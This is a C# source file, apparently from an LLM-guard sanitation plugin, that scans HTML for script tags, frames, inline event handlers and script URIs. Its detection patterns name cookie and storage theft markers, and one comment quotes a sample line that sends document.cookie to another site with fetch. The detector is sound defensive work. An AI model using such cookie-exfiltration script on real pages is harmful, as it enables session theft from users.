using System.Text;
using LlmGuard.Plugins.CodeSanitation.Rules;

namespace LlmGuard.Plugins.CodeSanitation.Reading;

/// <summary>Reads tags of HTML and their attributes. One pass: a tag ends where the next one begins, whatever it leaves open.</summary>
internal sealed class MarkupReader(CodeFindings findings)
{
    /// <summary>Bytes of a handler that are looked at.</summary>
    private const int LongestCode = 512;

    private static readonly int ScriptTheft = CodeCatalog.NumberOf("html.script_theft");
    private static readonly int ScriptUri = CodeCatalog.NumberOf("html.script_uri");
    private static readonly int EventHandler = CodeCatalog.NumberOf("html.event_handler");
    private static readonly int Script = CodeCatalog.NumberOf("html.script");
    private static readonly int FrameRule = CodeCatalog.NumberOf("html.frame");

    /// <summary>Reads a text.</summary>
    public void Read(ReadOnlySpan<byte> text)
    {
        findings.Steps += text.Length;
        var at = 0;
        while (text[at..].IndexOf((byte)'<') is >= 0 and var found)
        {
            at += found;
            var name = at + 1 < text.Length && text[at + 1] == '/' ? at + 2 : at + 1;
            var end = name;
            while (end < text.Length && char.IsAsciiLetterOrDigit((char)text[end]))
            {
                end++;
            }

            if (end == name)
            {
                at++;
                continue;
            }

            var next = text[end..].IndexOfAny((byte)'<', (byte)'>');
            var close = next < 0 ? text.Length : text[end + next] == '>' ? end + next + 1 : end + next;
            Judge(text, at, name, end, close);
            at = close;
        }
    }

    private void Judge(ReadOnlySpan<byte> text, int start, int name, int nameEnd, int close)
    {
        var tag = text[name..nameEnd];
        if (Is(tag, "script"u8))
        {
            findings.Add(Script, start, close);
            var code = text.Slice(close, text[start + 1] == '/' ? 0 : Math.Min(LongestCode, text.Length - close));
            findings.Steps += code.Length;
            if (SendsAway(code))
            {
                findings.Add(ScriptTheft, start, close);
            }
        }
        else if (Is(tag, "iframe"u8) || Is(tag, "object"u8) || Is(tag, "embed"u8) || Is(tag, "applet"u8))
        {
            findings.Add(FrameRule, start, close);
        }

        var attributes = text[nameEnd..close];
        for (var at = 0; attributes[at..].IndexOf((byte)'=') is >= 0 and var equals;)
        {
            var sign = at + equals;
            JudgeAttribute(attributes, sign, start, close);
            at = sign + 1;
        }
    }

    private void JudgeAttribute(ReadOnlySpan<byte> attributes, int sign, int start, int close)
    {
        var nameEnd = attributes[..sign].TrimEnd((byte)' ').Length;
        var nameStart = nameEnd;
        while (nameStart > 0 && nameEnd - nameStart < 32
            && (char.IsAsciiLetterOrDigit((char)attributes[nameStart - 1]) || attributes[nameStart - 1] is (byte)':' or (byte)'-'))
        {
            nameStart--;
        }

        var name = attributes[nameStart..nameEnd];
        var value = attributes[(sign + 1)..].TrimStart(" \"'\t\r\n"u8);
        var isHandler = name.Length > 4 && Is(name[..2], "on"u8) && name.IndexOfAny((byte)'-', (byte)':') < 0;
        var isScript = StartsWith(value, "javascript:"u8) || StartsWith(value, "vbscript:"u8) || StartsWith(value, "data:text/html"u8);
        if (isHandler)
        {
            findings.Add(EventHandler, start, close);
        }

        if (isScript && !StartsWith(value, "javascript:void"u8))
        {
            findings.Add(ScriptUri, start, close);
        }

        findings.Steps += nameEnd - nameStart + (isHandler || isScript ? Math.Min(value.Length, LongestCode) : 0);
        if ((isHandler || isScript) && HasTheft(value[..Math.Min(value.Length, LongestCode)]))
        {
            findings.Add(ScriptTheft, start, close);
        }
    }

    private static bool HasTheft(ReadOnlySpan<byte> code) =>
        code.IndexOf("document.cookie"u8) >= 0 || code.IndexOf("localStorage"u8) >= 0 || code.IndexOf("eval("u8) >= 0 || code.IndexOf("atob("u8) >= 0
        || code.IndexOf("fromCharCode"u8) >= 0 || code.IndexOf("sendBeacon"u8) >= 0;

    // "fetch('//x/?' + document.cookie)": what the page keeps is written into an address of another site.
    private static bool SendsAway(ReadOnlySpan<byte> code)
    {
        var end = code.IndexOf("</"u8);
        code = end < 0 ? code : code[..end];
        for (var at = 0; code[at..].IndexOf("document.cookie"u8) is >= 0 and var found; at += found + 1)
        {
            var before = code[..(at + found)].TrimEnd(" (\t\r\n"u8);
            before = before.EndsWith("btoa"u8) ? before[..^4].TrimEnd(" (\t"u8)
                : before.EndsWith("encodeURIComponent"u8) ? before[..^18].TrimEnd(" (\t"u8) : before;
            if ((before.EndsWith("+"u8) || before.EndsWith("${"u8)) && before.IndexOf("//"u8) >= 0)
            {
                return true;
            }
        }

        return false;
    }

    private static bool Is(ReadOnlySpan<byte> name, ReadOnlySpan<byte> lowerCase) => Ascii.EqualsIgnoreCase(name, lowerCase);

    private static bool StartsWith(ReadOnlySpan<byte> value, ReadOnlySpan<byte> lowerCase) =>
        value.Length >= lowerCase.Length && Is(value[..lowerCase.Length], lowerCase);
}
